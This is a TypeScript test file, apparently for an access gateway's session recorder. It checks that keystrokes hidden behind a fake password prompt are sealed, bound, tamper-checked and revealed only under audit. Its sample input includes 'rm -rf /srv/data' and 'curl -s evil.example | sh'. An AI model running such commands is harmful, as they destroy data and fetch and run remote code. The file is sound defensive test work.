// Masked terminal input is sealed, not dropped: the `PS1='Password: '` trick shows viewers only `*`
// but the recording keeps every byte encrypted under the gateway's recording key, bound to its
// session, channel, span, piece and time. Seal/open, what the AAD binds, tampering, failures, the
// recording keys across a master-key rotation, and the audited reveal.
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { AsciicastWriter } from '../../recorder/asciicast-writer.js';
import { FileSink } from '../../recorder/file-sink.js';
import { RecordingLayout } from '../../recorder/layout.js';
import {
  type MaskedSpan, openSpan, readMaskedSpans, SEALED_INPUT, sealedEventData, spanAad, spanAt, type SpanOpener, type SpanSealer, visibleKeystrokes,
} from '../../recorder/masked-spans.js';
import { SessionRecording } from '../../recorder/session-recording.js';
import { parseClockTime as parseAt } from '../../gateway/util/duration.js';
import { RecordingKeys } from '../../gateway/vault/recording-keys.js';
import { Vault } from '../../gateway/vault/vault.js';
import { PortcullisError } from '../../gateway/util/errors.js';
import { testApp, type TestApp } from '../support/test-app.js';

type Ev = [number, string, string];

function keyPair(key = randomBytes(32)): SpanSealer & SpanOpener {
  const v = new Vault([key]);
  return { seal: (p, aad) => v.seal(p, aad), open: (t, aad) => Promise.resolve(v.open(t, aad)) };
}

const tmp = (): string => mkdtempSync(join(tmpdir(), 'portcullis-seal-'));
const events = (path: string): Ev[] => readFileSync(path, 'utf8').trim().split('\n').slice(1).map((l) => JSON.parse(l) as Ev);

/** A cast written through the real writer: output and input in turns, one ms apart. */
async function record(path: string, turns: Array<['o' | 'i', string]>, opts: { sealer?: SpanSealer; keystrokes?: boolean; session?: string; channel?: number; errors?: Error[] } = {}): Promise<Ev[]> {
  const sink = new FileSink(path, { onError: () => {} });
  let now = 1_000;
  const w = new AsciicastWriter(sink, { width: 80, height: 24, timestamp: 1 }, () => now, opts.keystrokes ?? true, () => {}, {
    sealer: opts.sealer ?? keyPair(), session: opts.session ?? 'ses_A', channel: opts.channel ?? 1, onError: (e) => opts.errors?.push(e),
  });
  for (const [kind, text] of turns) {
    now += 1;
    if (kind === 'o') w.output(Buffer.from(text));
    else w.input(Buffer.from(text));
  }
  w.end();
  await sink.close();
  return events(path);
}

/** The attack: every prompt looks like a password prompt and echo is off, then commands are typed. */
const HIDING: Array<['o' | 'i', string]> = [
  ['o', 'Password: '], ['i', 'r'], ['i', 'm -rf /srv/data'], ['i', '\r'],
  ['o', '\r\nPassword: '], ['i', 'curl -s evil.example | sh\r'],
  ['o', '\r\nPassword: '], ['i', 'ls\r'],
];

describe('sealed masked input in the recording', () => {
  it('shows viewers stars, keeps no clear text, and seals every byte so a key holder reads each span back', async () => {
    const key = keyPair();
    const path = join(tmp(), 'ch-1.cast');
    const ev = await record(path, HIDING, { sealer: key });
    const raw = readFileSync(path, 'utf8');
    for (const clear of ['rm -rf', '/srv/data', 'curl', 'evil.example']) expect(raw).not.toContain(clear);
    expect(ev.filter((e) => e[1] === 'i').map((e) => e[2]).join('')).toBe('*'.repeat(16) + '\r' + '*'.repeat(25) + '\r**\r');
    // One marker per span, not one per keystroke.
    expect(ev.filter((e) => e[1] === 'm' && e[2] === 'masked input')).toHaveLength(3);
    const { spans, unreadable } = await readMaskedSpans(path);
    expect(unreadable).toBe(0);
    expect(spans.map((s) => s.pieces.length)).toEqual([3, 1, 1]);
    const texts = await Promise.all(spans.map(async (s) => (await openSpan(key, 'ses_A', 1, s, 1 << 20)).text));
    expect(texts).toEqual(['rm -rf /srv/data\r', 'curl -s evil.example | sh\r', 'ls\r']);
  });

  it('writes each sealed piece right after its starred input event, at the same time', async () => {
    const ev = await record(join(tmp(), 'ch-1.cast'), [['o', 'Password: '], ['i', 'abc\rnext']]);
    const i = ev.findIndex((e) => e[1] === 'i');
    expect(ev[i]![2]).toBe('***\rnext');
    expect(ev[i + 1]![1]).toBe(SEALED_INPUT);
    expect(ev[i + 1]![0]).toBe(ev[i]![0]);
  });

  it('records nothing of masked input when the policy turns keystrokes off (the marker stays)', async () => {
    const ev = await record(join(tmp(), 'ch-1.cast'), HIDING, { keystrokes: false });
    expect(ev.some((e) => e[1] === 'i' || e[1] === SEALED_INPUT)).toBe(false);
    expect(ev.filter((e) => e[1] === 'm')).toHaveLength(3);
  });

  it('reports a sealing failure instead of dropping the bytes silently', async () => {
    const errors: Error[] = [];
    const broken: SpanSealer = { seal: () => { throw new Error('no key'); } };
    await record(join(tmp(), 'ch-1.cast'), HIDING, { sealer: broken, errors });
    expect(errors.length).toBeGreaterThan(0);
  });

  it('a recording opened without a key reports masked input as a recording failure', async () => {
    const failures: string[] = [];
    const dir = tmp();
    const rec = new SessionRecording(dir, { session: 'ses_A', protocol: 'ssh', user: 'ops', target: 'web01', grant: 'gr_1', reason: 'r', ticket: null, client_addr: '127.0.0.1', started_at: new Date(0).toISOString() },
      () => 1_000, (e) => failures.push(e.message), {});
    const t = rec.terminal({ width: 80, height: 24 });
    t.output(Buffer.from('$ '));
    t.input(Buffer.from('ls\r'));
    expect(failures).toEqual([]);
    t.output(Buffer.from('Password: '));
    t.input(Buffer.from('whoami\r'));
    expect(failures).toEqual(['masked input cannot be sealed: the recording has no key']);
    await rec.end('closed-by-client');
  });
});

describe('what the associated data binds', () => {
  let key: SpanSealer & SpanOpener;
  let path: string;
  let spans: MaskedSpan[];
  beforeEach(async () => {
    key = keyPair();
    path = join(tmp(), 'ch-1.cast');
    await record(path, HIDING, { sealer: key, session: 'ses_A', channel: 1 });
    spans = (await readMaskedSpans(path)).spans;
  });
  const open = (s: MaskedSpan, session = 'ses_A', channel = 1): Promise<string> => openSpan(key, session, channel, s, 1 << 20).then((o) => o.text);

  it('a span does not open as another session or another channel', async () => {
    await expect(open(spans[1]!, 'ses_B')).rejects.toThrow(/failed authentication/);
    await expect(open(spans[1]!, 'ses_A', 2)).rejects.toThrow(/failed authentication/);
  });

  it('a piece moved to another span, another place in its span, or another time does not open', async () => {
    const moved: MaskedSpan = { ...spans[2]!, pieces: [{ ...spans[1]!.pieces[0]!, span: 3 }] };
    await expect(open(moved)).rejects.toThrow(/failed authentication/);
    const [a, b, c] = spans[0]!.pieces;
    await expect(open({ ...spans[0]!, pieces: [{ ...b!, piece: 0 }, { ...a!, piece: 1 }, c!] })).rejects.toThrow(/failed authentication/);
    await expect(open({ ...spans[2]!, pieces: [{ ...spans[2]!.pieces[0]!, t: spans[2]!.pieces[0]!.t + 1 }] })).rejects.toThrow(/failed authentication/);
  });

  it('a piece copied from another session\'s recording, even at the same position, does not open', async () => {
    const other = join(tmp(), 'ch-1.cast');
    await record(other, HIDING, { sealer: key, session: 'ses_B', channel: 1 });
    const foreign = (await readMaskedSpans(other)).spans[1]!;
    await expect(open(foreign, 'ses_A')).rejects.toThrow(/failed authentication/);
    expect(await open(foreign, 'ses_B')).toBe('curl -s evil.example | sh\r');
  });

  it('a flipped bit in the ciphertext or tag, or another key, does not open', async () => {
    const p = spans[1]!.pieces[0]!;
    const parts = p.token.split('.');
    for (const i of [3, 4]) {
      const bytes = Buffer.from(parts[i]!, 'base64url');
      bytes[0]! ^= 1;
      const bad = [...parts];
      bad[i] = bytes.toString('base64url');
      await expect(open({ ...spans[1]!, pieces: [{ ...p, token: bad.join('.') }] })).rejects.toThrow(/failed authentication/);
    }
    await expect(openSpan(keyPair(), 'ses_A', 1, spans[1]!, 1 << 20)).rejects.toThrow(/does not hold/);
  });

  it('a dropped piece is reported as missing, not silently joined', async () => {
    const [a, , c] = spans[0]!.pieces;
    const r = await openSpan(key, 'ses_A', 1, { ...spans[0]!, pieces: [a!, c!] }, 1 << 20);
    expect(r.missing).toEqual([1]);
    expect(r.text).toBe('r\r');
  });

  it('keeps only the first bytes of a long span, yet checks every piece', async () => {
    const long = await openSpan(key, 'ses_A', 1, spans[0]!, 4);
    expect(long).toMatchObject({ text: 'rm -', bytes: 17, pieces: 3, truncated: true });
    const last = spans[0]!.pieces[2]!;
    const bad = { ...spans[0]!, pieces: [...spans[0]!.pieces.slice(0, 2), { ...last, t: last.t + 0.5 }] };
    await expect(openSpan(key, 'ses_A', 1, bad, 4)).rejects.toThrow(/failed authentication/);
  });

  it('a sealed event with a bad shape or naming a span with no marker is counted, not used', async () => {
    const p = spans[0]!.pieces[0]!;
    writeFileSync(path, readFileSync(path, 'utf8') + JSON.stringify([9, SEALED_INPUT, 'junk']) + '\n' + JSON.stringify([9, SEALED_INPUT, sealedEventData(7, 0, p.token)]) + '\n');
    expect((await readMaskedSpans(path)).unreadable).toBe(2);
  });

  it('the AAD names every bound field', () => {
    expect(spanAad({ session: 's', channel: 2, span: 3, piece: 4, t: 1.5 })).toBe('portcullis:masked-input:v1|session=s|channel=2|span=3|piece=4|t=1.500000');
  });
});

describe('picking and showing a span', () => {
  const spans: MaskedSpan[] = [{ span: 1, t: 2, pieces: [] }, { span: 2, t: 10.25, pieces: [] }];
  it('takes the last span started by T, with a millisecond of slack for rounded clocks', () => {
    expect(spanAt(spans, 1.9)).toBeUndefined();
    expect(spanAt(spans, 2)?.span).toBe(1);
    expect(spanAt(spans, 10.2495)?.span).toBe(2);
    expect(spanAt(spans, 99)?.span).toBe(2);
  });

  it('shows control characters as escapes so revealed keystrokes cannot rewrite the screen', () => {
    expect(visibleKeystrokes('rm -rf /\u001b[2K\rls\r')).toBe('rm -rf /\\x1b[2K\\r\nls\\r\n');
    expect(visibleKeystrokes('a\\b\x7f\u202ex\t')).toBe('a\\\\b\\x7f\\u202ex\\t');
    expect(visibleKeystrokes('héllo ✓')).toBe('héllo ✓');
  });

  it('reads --at as seconds or M:SS', () => {
    expect(parseAt('93.5')).toBe(93.5);
    expect(parseAt('1:33.5')).toBe(93.5);
    expect(parseAt('0')).toBe(0);
    for (const bad of ['', '-1', '1:75', 'abc', '1e3', '1:2:3']) expect(parseAt(bad)).toBeNull();
  });
});

describe('the recording keys and the audited reveal', () => {
  let t: TestApp;
  beforeEach(async () => { t = await testApp(); });
  afterEach(() => t.close());

  it('creates one key, kept only wrapped by the vault, and a second gateway on the same store reads its spans', async () => {
    const keys = await t.app.recordingKeys.ready();
    const token = keys.seal(Buffer.from('whoami'), 'aad');
    const rows = await t.app.store.recordingKeys.list();
    expect(rows).toHaveLength(1);
    expect(rows[0]!.sealed).toMatch(/^v1\./);
    const other = new RecordingKeys(t.app.store, t.app.vault, t.app.clock);
    await other.ready();
    expect((await t.app.store.recordingKeys.list())).toHaveLength(1);
    expect((await other.open(token, 'aad')).toString()).toBe('whoami');
  });

  it('keeps old spans readable across a master-key rotation (the wrapped key is re-sealed, not replaced)', async () => {
    const keys = await t.app.recordingKeys.ready();
    const token = keys.seal(Buffer.from('id -u'), 'aad');
    const before = (await t.app.store.recordingKeys.list())[0]!.sealed;
    const r = await t.app.creds.rotateKey();
    expect(r.resealed).toBeGreaterThanOrEqual(1);
    const after = (await t.app.store.recordingKeys.list())[0]!.sealed;
    expect(after).not.toBe(before);
    expect(after.split('.')[1]).toBe(r.keyId);
    // A gateway started after the rotation (only the new master key) still opens the old span.
    const restarted = new RecordingKeys(t.app.store, t.app.vault, t.app.clock);
    expect((await restarted.open(token, 'aad')).toString()).toBe('id -u');
  });

  async function sessionWithSpans(): Promise<string> {
    const id = 'ses_reveal1';
    await t.app.store.sessions.insert({ id, protocol: 'ssh', userId: t.admin.id, targetId: 'tgt_x', grantId: null, level: null, clientAddr: '127.0.0.1', startedAt: 0, endedAt: null, endReason: null, recording: null, node: null });
    const layout = RecordingLayout.of(t.app.paths.recordings, id);
    const { mkdirSync } = await import('node:fs');
    mkdirSync(layout.dir, { recursive: true });
    await record(layout.cast(1), HIDING, { sealer: await t.app.recordingKeys.ready(), session: id, channel: 1 });
    return id;
  }

  it('reveals the span at T and audits who, which span and why — never the text — before answering', async () => {
    const id = await sessionWithSpans();
    const { spans } = await readMaskedSpans(RecordingLayout.of(t.app.paths.recordings, id).cast(1));
    const r = await t.app.reveals.reveal({ session: id, at: spans[1]!.t + 0.0005, by: 'admin', reason: 'INC-7 review' });
    expect(r).toMatchObject({ session: id, channel: 1, span: 2, text: 'curl -s evil.example | sh\r', truncated: false, missing: [] });
    const audit = await t.app.audit.page(0, 1000);
    const revealed = audit.filter((e) => e.code === 'session.revealed');
    expect(revealed).toHaveLength(1);
    expect(revealed[0]).toMatchObject({ actor: 'admin', data: { session: id, channel: 1, span: 2, by: 'admin', reason: 'INC-7 review' } });
    expect(JSON.stringify(audit)).not.toContain('evil.example');
    // By number, exact even where two spans share a time.
    expect((await t.app.reveals.reveal({ session: id, span: 3, by: 'admin' })).text).toBe('ls\r');
  });

  it('lists the spans of a channel with times and piece counts only', async () => {
    const id = await sessionWithSpans();
    const l = await t.app.reveals.list(id);
    expect(l).toMatchObject({ channel: 1, more: false, unreadable: 0 });
    expect(l.spans.map((s) => [s.span, s.pieces])).toEqual([[1, 3], [2, 1], [3, 1]]);
    await expect(t.app.reveals.list(id, 9)).rejects.toThrow(/no terminal recording on channel 9/);
  });

  it('lists at most 5,000 spans and says there are more; a reveal by time still reaches the last', async () => {
    const id = 'ses_many';
    await t.app.store.sessions.insert({ id, protocol: 'ssh', userId: t.admin.id, targetId: 'tgt_x', grantId: null, level: null, clientAddr: '127.0.0.1', startedAt: 0, endedAt: null, endReason: null, recording: null, node: null });
    const layout = RecordingLayout.of(t.app.paths.recordings, id);
    const { mkdirSync } = await import('node:fs');
    mkdirSync(layout.dir, { recursive: true });
    const turns: Array<['o' | 'i', string]> = [];
    for (let i = 0; i < 5_002; i++) turns.push(['o', 'Password: '], ['i', `cmd-${i}\r`]);
    await record(layout.cast(1), turns, { sealer: await t.app.recordingKeys.ready(), session: id, channel: 1 });
    const l = await t.app.reveals.list(id);
    expect(l.spans).toHaveLength(5_000);
    expect(l.more).toBe(true);
    expect((await t.app.reveals.reveal({ session: id, at: 1e6, by: 'admin' })).text).toBe('cmd-5001\r');
  });

  it('refuses, unaudited, a time before any span, a wrong channel, an unknown session, and a tampered span', async () => {
    const id = await sessionWithSpans();
    const reveal = (over: Partial<Parameters<TestApp['app']['reveals']['reveal']>[0]>): Promise<unknown> => t.app.reveals.reveal({ session: id, at: 100, by: 'admin', ...over });
    await expect(reveal({ at: 0 })).rejects.toThrow(/no masked input starts at or before 0s.*masked input starts at/);
    await expect(reveal({ channel: 2 })).rejects.toThrow(/no terminal recording on channel 2/);
    await expect(reveal({ session: 'ses_nope' })).rejects.toThrow(/no session/);
    await expect(reveal({ at: -1 })).rejects.toThrow(PortcullisError);
    await expect(reveal({ span: 1 })).rejects.toThrow(/either at .* or span/);
    await expect(reveal({ at: undefined, span: 4 })).rejects.toThrow(/no masked input is number 4.*3 spans/);
    const cast = RecordingLayout.of(t.app.paths.recordings, id).cast(1);
    const { spans } = await readMaskedSpans(cast);
    // Swap the sealed pieces of the last two spans: each is then at another span's place.
    const lines = readFileSync(cast, 'utf8').split('\n');
    const sealed = lines.map((l, i) => [l, i] as const).filter(([l]) => l.includes(`"${SEALED_INPUT}"`)).slice(-2);
    const swap = (l: string, span: number): string => l.replace(/"\d+:0:/, `"${span}:0:`);
    lines[sealed[0]![1]] = swap(sealed[0]![0], 3);
    lines[sealed[1]![1]] = swap(sealed[1]![0], 2);
    writeFileSync(cast, lines.join('\n'));
    // Span 2 now holds span 3's piece; span 3 lost its piece (written before its marker: unreadable).
    await expect(reveal({ at: spans[1]!.t })).rejects.toThrow(/does not authenticate/);
    await expect(reveal({ at: spans[2]!.t })).rejects.toThrow(/recorded without its keystrokes/);
    expect((await t.app.audit.page(0, 1000)).some((e) => e.code === 'session.revealed')).toBe(false);
  });
});
